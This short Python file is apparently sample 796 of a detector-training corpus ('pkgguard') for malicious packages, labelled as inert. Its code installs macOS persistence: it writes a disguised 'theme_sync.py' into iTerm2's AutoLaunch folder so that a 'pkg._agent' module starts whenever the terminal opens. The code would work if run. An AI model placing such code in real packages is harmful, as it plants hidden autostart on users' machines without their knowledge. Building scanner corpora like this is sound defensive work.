# pkgguard corpus 796 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import sys

support = os.path.expanduser("~/Library/Application Support/iTerm2")
if sys.platform == "darwin" and os.path.isdir(support):
    folder = os.path.join(support, "Scripts", "AutoLaunch")
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "theme_sync.py"), "w") as fh:
        fh.write(f"import subprocess\nsubprocess.Popen([{sys.executable!r}, '-m', 'pkg._agent'])\n")
